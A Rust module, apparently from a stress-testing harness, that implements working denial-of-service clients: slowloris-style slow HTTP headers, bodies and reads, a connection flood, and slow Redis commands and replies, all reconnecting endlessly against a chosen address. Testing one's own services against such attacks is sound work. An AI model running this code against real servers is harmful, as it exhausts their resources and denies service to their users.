//! Clients that mean no good: they take places and time, and pay little for it.

use std::{net::SocketAddr, time::Duration};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpSocket, TcpStream},
    time::{sleep, timeout},
};

/// What attackers do.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// Send the head of a request byte by byte.
    Heads,
    /// Announce a body and send it byte by byte.
    Bodies,
    /// Ask for much and hardly read it.
    Reads,
    /// Connect, all of them together so many times a second, and go away.
    Flood,
    /// Send a Redis command byte by byte.
    Commands,
    /// Ask Redis for much and hardly read it.
    Replies,
}

impl Kind {
    /// All kinds.
    pub const ALL: [Self; 6] =
        [Self::Heads, Self::Bodies, Self::Reads, Self::Flood, Self::Commands, Self::Replies];

    /// Its name on a command line.
    pub const fn name(self) -> &'static str {
        match self {
            Self::Heads => "heads",
            Self::Bodies => "bodies",
            Self::Reads => "reads",
            Self::Flood => "flood",
            Self::Commands => "commands",
            Self::Replies => "replies",
        }
    }

    /// The kind of this name.
    pub fn of(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|kind| kind.name() == name)
    }

    /// Whether it is meant for a Redis service.
    pub const fn is_redis(self) -> bool {
        matches!(self, Self::Commands | Self::Replies)
    }
}

/// Attacks until the process ends.
pub fn run(kind: Kind, addr: SocketAddr, count: usize) {
    crate::block_on(async move {
        if kind == Kind::Flood {
            return flood(addr, count).await;
        }
        for n in 0..count {
            tokio::task::spawn_local(async move {
                // Not all in the same instant, and not all in step.
                sleep(Duration::from_millis(n as u64 % 1000)).await;
                loop {
                    let _ = slow(kind, addr).await;
                    // Whoever was sent away comes back.
                    sleep(Duration::from_millis(500)).await;
                }
            });
        }
        std::future::pending::<()>().await;
    });
}

/// So many connections a second: half of them say something.
async fn flood(addr: SocketAddr, rate: usize) {
    loop {
        for n in 0..rate.div_ceil(100) {
            tokio::task::spawn_local(async move {
                let Ok(Ok(mut stream)) = timeout(Duration::from_secs(1), TcpStream::connect(addr)).await
                else {
                    return;
                };
                if n % 2 == 0 {
                    let _ = stream.write_all(b"GET / HTTP/1.1\r\nHo").await;
                }
                sleep(Duration::from_millis(20)).await;
            });
        }
        sleep(Duration::from_millis(10)).await;
    }
}

async fn slow(kind: Kind, addr: SocketAddr) -> std::io::Result<()> {
    let socket = TcpSocket::new_v4()?;
    let reads = matches!(kind, Kind::Reads | Kind::Replies);
    if reads {
        socket.set_recv_buffer_size(4096)?;
    }
    let mut stream = socket.connect(addr).await?;
    let drip: &[u8] = match kind {
        Kind::Heads => b"GET /x HTTP/1.1\r\nHost: h\r\nX-Key: k\r\nX-Long: and so on",
        Kind::Bodies => {
            stream.write_all(b"POST /x HTTP/1.1\r\nHost: h\r\nX-Key: k\r\nX-Nonce: n\r\nContent-Length: 1000000\r\n\r\n").await?;
            b"more of it"
        }
        Kind::Reads => {
            stream.write_all(b"GET /big HTTP/1.1\r\nHost: h\r\nX-Key: k\r\n\r\n").await?;
            b""
        }
        Kind::Commands => b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$1000000\r\nmuch more",
        Kind::Replies => {
            stream.write_all(&b"*2\r\n$3\r\nGET\r\n$3\r\nbig\r\n"[..]).await?;
            b""
        }
        Kind::Flood => unreachable!("told apart above"),
    };
    let mut space = [0; 256];
    for at in 0.. {
        if reads {
            if stream.read(&mut space).await? == 0 {
                return Ok(());
            }
        } else {
            stream.write_all(&drip[at % drip.len()..][..1]).await?;
        }
        // An answer, or an end, ends this one.
        if !reads && let Ok(read) = timeout(Duration::from_secs(1), stream.read(&mut space)).await {
            return read.map(drop);
        }
        if reads {
            sleep(Duration::from_secs(1)).await;
        }
    }
    Ok(())
}
